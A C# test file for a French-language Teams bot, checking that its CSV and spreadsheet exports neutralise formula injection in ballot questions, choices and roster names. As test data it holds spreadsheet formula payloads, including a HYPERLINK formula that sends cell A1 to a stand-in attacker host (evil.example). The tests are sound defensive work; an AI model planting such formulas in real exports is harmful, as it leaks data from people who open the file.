using System.Text;
using System.Text.Json.Nodes;
using BepBot.Chat;
using BepBot.Features.Roster;
using BepBot.Features.Votes;
using BepBot.Infrastructure.Storage;
using BepBot.Platform.Delivery;
using BepBot.Tests.Broadcasts;
using BepBot.Tests.Harness;
using BepBot.Tests.Labs;
using BepBot.Tests.Observatoire;
using BepBot.Tests.Votes;
using Microsoft.Extensions.DependencyInjection;
using static BepBot.Tests.Exports.ExportFiles;

namespace BepBot.Tests.Exports;

/// <summary>
/// Issue 17: text that staff type or that comes from the roster, written in an export, must never be run by a
/// spreadsheet as a formula — the payloads of the review, through the bot, in every CSV and spreadsheet it produces.
/// </summary>
public sealed class ExportFormulaTests() : ConnectedBotTest(
    [TeamsUser.Alex, TeamsUser.Megan],
    settings: new Dictionary<string, string?> { ["Votes:CloseSettle"] = "00:00:00" })
{
    private const string EvilName = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")";

    [Fact]
    public async Task AuditExport_BallotQuestionTypedAsAFormula_IsTextInTheCsv()
    {
        const string question = "=HYPERLINK(\"http://evil\",\"x\") Question test ouverte ?";
        var ballot = await CreateBallotAsync(question, "-", "-", "default", "all", "maintenant", "à la main", "public", "50 %", "simple", "non", "non");

        var export = await Teams.InvokeAsync(TeamsUser.Alex, "votes.exportaudit", new JsonObject { ["ballotId"] = ballot.Id });

        var records = ReadCsv(await DownloadAsync(Teams, LinksIn(export.AllText).Single()));
        records.Single(record => record[1] == "created")[5].ShouldBe("'" + question);
        records.SelectMany(record => record).ShouldNotContain(cell => LooksLikeAFormula(cell));
        export.AllText.ShouldContain("lien valable 15 minutes");
    }

    [Fact]
    public async Task ResultsExport_SecretBallotChoiceTypedAsAFormula_IsTextAndItsCountANumber()
    {
        var ballot = await CreateBallotAsync("Quel projet retenir pour 2027 ?", "-", "-", "single", "=1+1 Option A ; Option B", "all", "maintenant", "à la main", "secret", "50 %", "simple");
        await VoteSteps.VoteAsync(Teams, TeamsUser.Megan, ballot.Id, "Namur", ballot.Choices[0].Id);
        await Teams.InvokeAsync(TeamsUser.Alex, "votes.close", new JsonObject { ["ballotId"] = ballot.Id });

        var export = await Teams.InvokeAsync(TeamsUser.Alex, "votes.export", new JsonObject { ["ballotId"] = ballot.Id });

        var records = ReadCsv(await DownloadAsync(Teams, LinksIn(export.AllText).Single()));
        records.ShouldContain(record => record.SequenceEqual(new[] { "voix", "'=1+1 Option A", "1" }));
        records.SelectMany(record => record).ShouldNotContain(cell => LooksLikeAFormula(cell));
        export.AllText.ShouldContain("lien valable 24 heures");
    }

    [Fact]
    public async Task LabExport_RosterNamesThatAreFormulas_AreTextInTheCsvAndTheSpreadsheet()
    {
        var officers = await LabFixtures.SeedOfficersAsync(Bot.Store, 3, "Namur", "Ciney");
        string[] names = [EvilName, "\t=2+3 Tabulation", "\r=4+5 Retour"];
        await RenameAsync(Bot.Store, officers.Zip(names).ToDictionary(pair => pair.First.AadObjectId, pair => pair.Second));
        var lab = await LabFixtures.CreateAsync(Bot, LabFixtures.NewLab());
        foreach (var officer in officers)
        {
            await Teams.InvokeAsync(LabFixtures.Officer(officer), "labs.register", new JsonObject { ["labId"] = lab.Id });
        }

        var export = await Teams.InvokeAsync(TeamsUser.Alex, "labs.export", new JsonObject { ["labId"] = lab.Id });

        var links = LinksIn(export.AllText);
        links.Count.ShouldBe(2);
        var csv = ReadCsv(await DownloadAsync(Teams, links[0]));
        csv.Skip(1).Select(record => record[1]).ShouldBe(names.Select(name => "'" + name), ignoreOrder: true);
        csv.SelectMany(record => record).ShouldNotContain(cell => LooksLikeAFormula(cell));
        var cells = SpreadsheetCells(await DownloadAsync(Teams, links[1]));
        cells.ShouldNotContain(cell => cell.HasFormula);
        cells.ShouldContain(cell => cell.Text == "'" + EvilName && cell.Type != null && cell.Type != "n");
        cells.Select(cell => cell.Text).ShouldNotContain(text => LooksLikeAFormula(text));
    }

    [Fact]
    public async Task DeliveryReport_RecipientNamesThatAreFormulas_AreTextAndAttemptsNumbers()
    {
        await BroadcastSteps.SeedOfficersAsync(Bot.Store, Connector.ServiceUrl, 3);
        var roster = (await Bot.Store.GetAsync<RosterDocument>(RosterDirectory.Key))!.Value;
        var officers = roster.Members.Where(member => member.Role == Role.Officer).ToList();
        await RenameAsync(Bot.Store, new Dictionary<string, string>
        {
            [officers[0].AadObjectId] = EvilName,
            [officers[1].AadObjectId] = "@Agent deux",
            [officers[2].AadObjectId] = "-Agent trois",
        });
        var (_, broadcastId) = await BroadcastSteps.SendAsync(Teams, BroadcastSteps.Inputs("everyone"));
        await BroadcastSteps.WaitForStateAsync(Bot, broadcastId, BroadcastState.Completed);

        var report = await Teams.InvokeAsync(TeamsUser.Alex, "broadcasts.report", new JsonObject { ["broadcastId"] = broadcastId });

        var records = ReadCsv(await DownloadAsync(Teams, LinksIn(report.AllText).Single()));
        records.Select(record => record[0]).ShouldContain("'" + EvilName);
        records.Select(record => record[0]).ShouldContain("'@Agent deux");
        records.Select(record => record[0]).ShouldContain("'-Agent trois");
        records.Skip(1).ShouldAllBe(record => int.Parse(record[4], System.Globalization.CultureInfo.InvariantCulture) >= 0);
        records.SelectMany(record => record).ShouldNotContain(cell => LooksLikeAFormula(cell));
        report.AllText.ShouldContain("lien valable 15 minutes");
    }

    [Fact]
    public async Task ObservatoireExport_NegativeFigureStaysANumber_TextStartingWithMinusOrAtIsNeutralised()
    {
        await using var files = await LoopbackFileServer.StartAsync();
        var imported = await files.UploadAsync(Teams, TeamsUser.Alex, "migrations.csv", Encoding.UTF8.GetBytes("""
            commune;indicateur;année;valeur;unité;source
            Gembloux;Solde migratoire;2023;-12,5;-;@Statbel (calcul BEP)
            Namur;Solde migratoire;2023;-40;-;@Statbel (calcul BEP)
            """));
        imported.AllText.ShouldContain("importé");
        var diagnostic = (await Teams.SayAsync(TeamsUser.Megan, "diagnostic de Gembloux")).Card;

        var export = (await Teams.ClickAsync(TeamsUser.Megan, diagnostic, "Exporter en CSV")).Card;

        var link = new Uri((string)CardReader.FindAction(export, "Télécharger le CSV")["url"]!);
        var records = ReadCsv(await DownloadAsync(Teams, link), ';');
        var gembloux = records.Single(record => record[0] == "Gembloux");
        gembloux[5].ShouldBe("-12,5");
        gembloux[6].ShouldBe("'-");
        gembloux[7].ShouldBe("-26,25");
        gembloux[11].ShouldBe("'@Statbel (calcul BEP)");
        records.SelectMany(record => record).Where(cell => !decimal.TryParse(cell, System.Globalization.NumberStyles.Number, Infrastructure.Time.BelgianTime.French, out _))
            .ShouldNotContain(cell => LooksLikeAFormula(cell));
    }

    private async Task<Ballot> CreateBallotAsync(params string[] answers)
    {
        await Teams.SayAsync(TeamsUser.Alex, "nouveau vote");
        foreach (var answer in answers)
        {
            var reply = await Teams.SayAsync(TeamsUser.Alex, answer);
            // The confirmation may warn (a secret ballot among the demo roster's three bourgmestres); any other ⚠️ is a refusal.
            if (!reply.AllText.Contains(Fr("Créer ce vote ?"), StringComparison.Ordinal))
            {
                reply.AllText.ShouldNotContain("⚠️", customMessage: $"answer « {answer} » refused: {reply.AllText}");
            }
        }

        (await Teams.SayAsync(TeamsUser.Alex, "oui")).AllText.ShouldContain("est ouvert");
        return (await Bot.Services.GetRequiredService<BallotStore>().ListAsync()).ShouldHaveSingleItem();
    }

    // The roster as an import would leave it: the same people, named as the file named them.
    private static async Task RenameAsync(IDocumentStore store, Dictionary<string, string> names)
    {
        var roster = (await store.GetAsync<RosterDocument>(RosterDirectory.Key))!.Value;
        var renamed = roster.Members.Select(member => names.TryGetValue(member.AadObjectId, out var name) ? member with { Name = name } : member).ToList();
        await store.UpsertAsync(RosterDirectory.Key, roster with { Members = renamed });
    }
}
